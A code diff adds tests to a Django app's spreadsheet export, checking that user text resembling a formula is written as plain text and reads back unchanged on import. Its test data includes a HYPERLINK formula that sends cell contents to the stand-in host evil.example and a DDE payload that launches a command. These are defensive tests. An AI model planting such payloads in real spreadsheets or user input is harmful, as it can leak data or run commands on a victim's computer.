@@ -12,6 +12,7 @@ import time_machine
 from django.urls import reverse
 from django.utils import timezone, translation
 
+from hoptac.core.spreadsheets import is_formula_like
 from hoptac.core.text import strip_diacritics
 from hoptac.plans.models import Activity, Assignment, ProgressState, Quantity
 from hoptac.plans.tests.factories import make_plan
@@ -679,3 +680,55 @@ def test_a_file_over_the_upload_limit_is_refused(office, plan, settings):
     response = upload(office, plan, content)
     assert response.status_code == 400
     assert response.context["form"].errors
+
+
+# Formula injection: user text that a spreadsheet would run is written as text
+
+
+INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "@SUM(A1:A2)", " \t=1+1"]
+
+
+def test_user_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(office, plan, world):
+    first, second, third, fourth = activities(plan)
+    titles = dict(zip((first, second, third, fourth), INJECTIONS, strict=False))
+    for activity, title in titles.items():
+        Activity.objects.filter(pk=activity.pk).update(title=title)
+    Activity.objects.filter(pk=first.pk).update(result="=1+2", time_text="-Tháng 4")
+    plan.title = "=cmd|' /C calc'!A0"
+    plan.save(update_fields=["title"])
+
+    response = office.get(reverse("tracking:sheet_export", args=[plan.pk]))
+    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    assert "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    assert (sheet.cell(1, 1).value, sheet.cell(1, 1).data_type) == (f"{plan.number} {plan.title}", "s")
+    for activity, title in titles.items():
+        cell = sheet.cell(row_of(sheet, activity), column(sheet, "title"))
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
+    row = row_of(sheet, first)
+    assert sheet.cell(row, column(sheet, "result")).value == "=1+2"
+    assert sheet.cell(row, column(sheet, "time")).quotePrefix
+    # Imported back untouched: every row reads as it was exported, nothing is a formula or a change.
+    check = upload(office, plan, response.content).context["check"]
+    assert (check.rows, check.unchanged, check.errors) == ([], 4, [])
+
+
+@pytest.mark.parametrize(
+    ("text", "is_formula"),
+    [
+        *[
+            ("=1", True),
+            ("+1", True),
+            ("-1", True),
+            ("@A1", True),
+            ("  =1", True),
+            ("\t1", True),
+            ("\r1", True),
+        ],
+        *[("Kế hoạch", False), ("1.2", False), ("", False), ("a=b", False)],
+    ],
+)
+def test_formula_like_text(text, is_formula):
+    assert is_formula_like(text) is is_formula
